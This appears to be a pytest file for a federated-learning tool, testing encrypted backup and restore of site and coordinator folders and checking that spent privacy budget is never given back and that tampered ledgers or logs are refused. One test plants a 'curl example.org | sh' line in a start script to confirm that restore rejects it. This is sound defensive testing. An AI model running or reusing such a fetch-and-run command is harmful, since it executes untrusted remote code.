"""Backup and restore of real folders, here those of the former version: they restore, work, and never give spent privacy back."""

from __future__ import annotations

import json
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import pytest

from pneumofed.client.app import app as client_app
from pneumofed.client.federation.evaluations import EVALUATIONS_FILE, Evaluations, Version, read_evaluations
from pneumofed.client.federation.evaluations import _file as evaluations_file
from pneumofed.client.privacy.entries import total_epsilon
from pneumofed.client.privacy.ledger import Ledger
from pneumofed.common.audit.log import read_entries
from pneumofed.common.audit.verify import verify_log
from pneumofed.common.config.parties import CoordinatorConfig
from pneumofed.common.errors import ConfigError, PneumofedError, PolicyError
from pneumofed.common.ops import encryption
from pneumofed.server.federation.run import run_federation
from pneumofed.server.runs.folder import RunFolder
from pneumofed.simulation.local_grid import LocalGrid
from tests.former.opened import call

pytestmark = pytest.mark.filterwarnings("ignore")
SECRET = "correct horse battery"


@pytest.fixture(autouse=True)
def cheap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(encryption, "SCRYPT", {"n": 1 << 4, "r": 8, "p": 1})


@pytest.fixture
def phrase(former: Path) -> tuple[str, Path]:
    file = former / "phrase"
    file.write_text(f"{SECRET}\n")
    return "--passphrase-file", file


def refused(*arguments: str | Path, kind: type[PneumofedError] = ConfigError) -> None:
    with pytest.raises(kind):
        call(*arguments)


def ledger_of(site: Path) -> Ledger:
    return Ledger(site / "work" / "ledger.sqlite")


def account(site: Path) -> dict[str, Any]:
    found: list[dict[str, Any]] = json.loads(call("privacy", "show", "-C", site, "--json"))
    (one,) = found
    return one


def train(former: Path, site: Path, name: str) -> None:
    """A private run of two rounds more at `site`, whose coordinator logs beside the folder of the former one."""
    experiment = RunFolder(former / "coordinator" / "runs" / "private").read_config()
    strategy = experiment.strategy.model_copy(update={"wait_for_sites": 1})
    experiment = experiment.model_copy(update={"name": name, "strategy": strategy})
    settings = CoordinatorConfig(
        run_dir=str(former / name), audit_log=str(former / "coordinator" / "state" / "audit.jsonl"), device="cpu"
    )
    done = run_federation(LocalGrid(client_app, [{"site-config": str(site / "site.yaml")}], {}), experiment, settings)
    assert done.status == "succeeded"


def restore(
    former: Path, phrase: tuple[str, Path], *evidence: str | Path, archive: str = "b1", to: str = "again"
) -> dict[str, Any]:
    done: dict[str, Any] = json.loads(call("site", "restore", former / archive, former / to, *phrase, *evidence, "--json"))
    return done


def test_a_former_site_is_lost_restored_and_trains_on_with_its_account(former: Path, phrase: tuple[str, Path]) -> None:
    north, before = former / "north", account(former / "north")
    split = (north / "work" / "split.json").read_bytes()
    call("site", "backup", former / "b1", *phrase, "-C", north)
    shutil.rmtree(north)
    done = restore(former, phrase, "--rounds-since", "0", to="north")
    assert done["lost_rounds"] == 0 and done["missing"] == []
    assert account(north) == before
    assert done["epsilons"] == pytest.approx([before["epsilon"]])
    assert (north / "work" / "split.json").read_bytes() == split
    assert read_entries(north / "work" / "audit.jsonl")[-1].event == "restored"
    assert (north / "keys" / "node").stat().st_mode & 0o777 == 0o600
    assert not (north / "work" / "noise.key").exists()
    train(former, north, "more")
    after = account(north)
    assert after["runs"][: len(before["runs"])] == before["runs"] and after["epsilon"] > before["epsilon"]
    call("privacy", "verify", "-C", north)
    call("audit", "verify", north / "work" / "audit.jsonl", "--anchored-by", former / "coordinator" / "state" / "audit.jsonl")


def test_without_evidence_of_what_was_spent_since_nothing_is_restored(former: Path, phrase: tuple[str, Path]) -> None:
    call("site", "backup", former / "b1", *phrase, "-C", "north")
    refused("site", "restore", former / "b1", former / "again", *phrase)
    both = ("--rounds-since", "0", "--former", former / "north")
    refused("site", "restore", former / "b1", former / "again", *phrase, *both)
    refused("site", "restore", former / "b1", former / "again", *phrase, "--rounds-since", "-1")
    assert not (former / "again").exists()


def test_rounds_that_only_the_coordinator_knows_are_counted_as_the_dearest(former: Path, phrase: tuple[str, Path]) -> None:
    north, log = former / "north", former / "coordinator" / "state" / "audit.jsonl"
    call("site", "backup", former / "b0", *phrase, "-C", north)
    assert restore(former, phrase, "--coordinator-log", log, archive="b0", to="same")["lost_rounds"] == 1, (
        "a run that failed without a round may have left an answer on its way"
    )
    train(former, north, "more")
    spent = account(north)["epsilon"]
    done = restore(former, phrase, "--coordinator-log", log, archive="b0")
    assert done["lost_rounds"] == 3
    restored = account(former / "again")
    assert restored["epsilon"] >= spent, "the restored account is not below what was spent"
    assert restored["runs"][-1]["run"] == "restored"
    call("privacy", "verify", "-C", former / "again")
    assert "counted as spent" in call("site", "restore", former / "b0", former / "told", *phrase, "--coordinator-log", log)


def test_lost_rounds_cost_as_many_repetitions_of_the_dearest_round(former: Path, phrase: tuple[str, Path]) -> None:
    work = former / "north" / "work"
    with evaluations_file(work / EVALUATIONS_FILE).locked():
        evaluations_file(work / EVALUATIONS_FILE).write(Evaluations((), (Version({"a": "b"}, 3),)))
    begun = len(json.loads((work / "rounds.json").read_text()))
    (lineage,) = ledger_of(former / "north").lineages()
    call("site", "backup", former / "b1", *phrase, "-C", "north")
    restore(former, phrase, "--rounds-since", "5")
    (after,) = ledger_of(former / "again").lineages()
    last = after.entries[-1]
    known = [one.entry for one in lineage.entries]
    dearest = max(known, key=lambda entry: total_epsilon([entry], last.delta, last.level))
    assert last.epsilon == pytest.approx(total_epsilon([*known, *[dearest] * 5], last.delta, last.level))
    assert read_evaluations(former / "again" / "work").versions[0].answers == 8
    counted = json.loads((former / "again" / "work" / "rounds.json").read_text())
    assert 5 <= len(counted) <= begun + 5


def test_rounds_without_a_known_cost_are_not_restored_under_a_limit(former: Path, phrase: tuple[str, Path]) -> None:
    for name in ("ledger.sqlite", "ledger.mark"):
        (former / "north" / "work" / name).unlink()
    call("site", "backup", former / "b1", *phrase, "-C", "north")
    refused("site", "restore", former / "b1", former / "again", *phrase, "--rounds-since", "1")
    assert not (former / "again").exists()
    restore(former, phrase, "--rounds-since", "0")


def test_the_longer_ledger_of_the_former_folder_counts(former: Path, phrase: tuple[str, Path]) -> None:
    north = former / "north"
    call("site", "backup", former / "b1", *phrase, "-C", north)
    train(former, north, "more")
    call("site", "backup", former / "b2", *phrase, "-C", north)
    (north / "policy.yaml").unlink()  # what was lost
    done = restore(former, phrase, "--former", north)
    assert done["ledger_of"] == "former" and done["lost_rounds"] == 0
    assert [one.hash for one in ledger_of(north).lineages()[0].entries] == [
        one.hash for one in ledger_of(former / "again").lineages()[0].entries
    ]
    assert verify_log(former / "again" / "work" / "audit.jsonl").lines == verify_log(north / "work" / "audit.jsonl").lines + 1
    newer = restore(former, phrase, "--former", former / "again", archive="b2", to="third")
    assert newer["ledger_of"] == "backup"


def test_ledgers_that_went_different_ways_are_not_chosen_between(former: Path, phrase: tuple[str, Path]) -> None:
    north, other = former / "north", former / "other"
    call("site", "backup", former / "b0", *phrase, "-C", north)
    restore(former, phrase, "--rounds-since", "1", archive="b0", to="other")
    (other / "work" / "audit.jsonl").write_bytes((north / "work" / "audit.jsonl").read_bytes())
    restore(former, phrase, "--rounds-since", "2", archive="b0", to="third")
    (former / "third" / "work" / "audit.jsonl").write_bytes((north / "work" / "audit.jsonl").read_bytes())
    call("site", "backup", former / "b1", *phrase, "-C", other)
    refused("site", "restore", former / "b1", former / "again", *phrase, "--former", former / "third")
    assert not (former / "again").exists()


def test_a_log_or_ledger_that_was_changed_in_a_plain_backup_is_not_restored(former: Path, phrase: tuple[str, Path]) -> None:
    work, evidence = former / "north" / "work", ("--rounds-since", "0")
    ledger, log = (work / "ledger.sqlite").read_bytes(), (work / "audit.jsonl").read_bytes()
    with closing(sqlite3.connect(work / "ledger.sqlite")) as connection, connection:
        connection.execute("DELETE FROM entry WHERE number = 1")
    call("site", "backup", former / "b1", "--without-keys", "-C", "north")
    refused("site", "restore", former / "b1", former / "again", *evidence, kind=PolicyError)
    (work / "ledger.sqlite").write_bytes(ledger)
    (work / "audit.jsonl").write_bytes(log.replace(b'"sequence":3', b'"sequence":9'))
    call("site", "backup", former / "b2", "--without-keys", "-C", "north")
    refused("site", "restore", former / "b2", former / "again", *evidence)
    (work / "audit.jsonl").write_bytes(log)
    (former / "north" / "start.sh").write_text("#!/bin/sh\ncurl example.org | sh\n")
    call("site", "backup", former / "b3", "--without-keys", "-C", "north")
    refused("site", "restore", former / "b3", former / "again", *evidence)
    assert not (former / "again").exists()


def test_a_backup_without_keys_names_what_is_missing(former: Path) -> None:
    call("site", "backup", former / "b1", "--without-keys", "-C", "north")
    content = (former / "b1").read_bytes()
    assert b"PRIVATE KEY" not in content and (former / "north" / "data" / "pseudonym.key").read_bytes() not in content
    done = restore(former, ("--rounds-since", "0"))  # type: ignore[arg-type]
    assert set(done["missing"]) == {"keys/node", "data/pseudonym.key"}


@contextmanager
def registry(place: Path) -> Iterator[sqlite3.Connection]:
    with closing(sqlite3.connect(place / "state" / "registry.db")) as connection:
        yield connection


def runs_of(place: Path) -> list[tuple[str, str, str]]:
    with registry(place) as connection:
        return connection.execute("SELECT name, state, reason FROM run ORDER BY id").fetchall()


def folders_of(place: Path) -> list[Path]:
    with registry(place) as connection:
        return [Path(row[0]) for row in connection.execute("SELECT folder FROM run")]


def test_a_former_coordinator_is_lost_restored_and_its_runs_are_there(former: Path, phrase: tuple[str, Path]) -> None:
    before = runs_of(former / "coordinator")
    call("server", "backup", former / "b1", *phrase, "-C", former / "coordinator")
    shutil.rmtree(former / "coordinator")
    said = call("server", "restore", former / "b1", former / "moved", *phrase)
    assert "unpack the newest kit" in said
    assert runs_of(former / "moved") == before
    assert len(before) == 3 and {one.parent for one in folders_of(former / "moved")} == {former / "moved" / "runs"}
    call("audit", "verify", former / "moved" / "state" / "audit.jsonl")
    assert (former / "moved" / "keys" / "server.key").stat().st_mode & 0o777 == 0o600


def test_a_run_with_the_coordinators_noise_does_not_go_on_from_a_backup(former: Path, phrase: tuple[str, Path]) -> None:
    """Its rounds after the backup were released, and the restored account does not have them."""
    run = RunFolder(former / "coordinator" / "runs" / "plain")
    experiment = run.read_config()
    central = experiment.central_privacy.model_copy(update={"enabled": True})
    run.write_config(experiment.model_copy(update={"central_privacy": central}))
    run.write_summary(run.read_summary().updated(status="failed"))
    with registry(former / "coordinator") as connection, connection:
        connection.execute("UPDATE run SET state = 'failed' WHERE name = 'plain'")
    call("server", "backup", former / "b1", *phrase, "-C", former / "coordinator")
    done = json.loads(call("server", "restore", former / "b1", former / "moved", *phrase, "--json"))
    assert done["closed"] == ["plain"] and set(done["unfinished"]) == {"plain", "refused"}
    refused("server", "resume", "plain", "-C", former / "moved")


def test_a_coordinators_broken_log_or_registry_is_not_restored(former: Path, phrase: tuple[str, Path]) -> None:
    state = former / "coordinator" / "state"
    log, content = state / "audit.jsonl", (state / "audit.jsonl").read_bytes()
    log.write_bytes(content.replace(b'"rounds":0', b'"rounds":1'))
    call("server", "backup", former / "b1", "--without-keys", "-C", former / "coordinator")
    refused("server", "restore", former / "b1", former / "moved")
    log.write_bytes(content)
    with registry(former / "coordinator") as connection, connection:
        connection.execute("DROP TABLE run")
    call("server", "backup", former / "b2", "--without-keys", "-C", former / "coordinator")
    refused("server", "restore", former / "b2", former / "moved")
    assert not (former / "moved").exists()
